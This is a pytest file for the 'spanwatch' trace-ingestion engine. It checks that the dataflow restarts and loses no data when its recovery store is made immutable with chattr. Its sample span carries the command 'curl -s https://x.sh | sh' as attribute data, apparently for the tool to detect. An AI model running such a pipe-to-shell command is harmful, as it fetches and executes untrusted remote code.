"""When Bytewax itself fails (here: its recovery store refuses every write), `spanwatch run`
does not exit: the receivers go on answering, and the dataflow starts again from its last
snapshot, replays the intake log after it, and counts what was answered meanwhile."""

from __future__ import annotations

import subprocess
import time

import httpx
import pytest
from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans

from tests.patience import wait_until

from ..test_live_engine import INGEST_AUTH, Engine
from .test_poison_values import span

PROTO = {"content-type": "application/x-protobuf", **INGEST_AUTH}


def export(base: str, user: str) -> int:
    body = encode_spans([span("shell.run", {"command": "curl -s https://x.sh | sh"}, user=user)])
    answer = httpx.post(f"{base}/v1/traces", content=body.SerializeToString(), headers=PROTO)
    return answer.status_code


def immutable(paths: list, on: bool) -> bool:
    flag = "+i" if on else "-i"
    done = subprocess.run(["chattr", flag, *map(str, paths)], capture_output=True, check=False)
    return done.returncode == 0


def test_a_failing_recovery_store_restarts_the_dataflow_and_loses_nothing(tmp_path):
    engine = Engine(tmp_path)
    engine.start()
    base = f"http://127.0.0.1:{engine.otlp}"
    store: list = []
    try:
        assert export(base, "before") == 200
        engine.wait_for(lambda i: i["group"].get("user") == "before", "the first incident")
        store = [tmp_path / "state" / "recovery" / "part-0.sqlite3-wal"]  # its writes go here
        wait_until(lambda: store[0].exists() and store[0].stat().st_size > 0, "a snapshot")
        time.sleep(1.5)  # a few more snapshots (every 0.5 s) are in the store
        if not immutable(store, True):
            pytest.skip("chattr +i is not available here (needs root on ext2/3/4, xfs or btrfs)")
        wait_until(lambda: "dataflow stopped" in engine.log.read_text(), "the dataflow to stop")
        assert engine.proc.poll() is None
        assert export(base, "meanwhile") == 200  # durable in the intake log, taken in later
        immutable(store, False)
        engine.wait_for(lambda i: i["group"].get("user") == "meanwhile", "the incident after")
        health = httpx.get(f"{engine.base}/healthz").json()
        assert health["dataflow_restarts"] >= 1
        assert "recovery: resumed from a snapshot" in engine.log.read_text()
        assert engine.stop() == 0
    finally:
        if store:
            immutable(store, False)
        if engine.proc and engine.proc.poll() is None:
            engine.proc.kill()
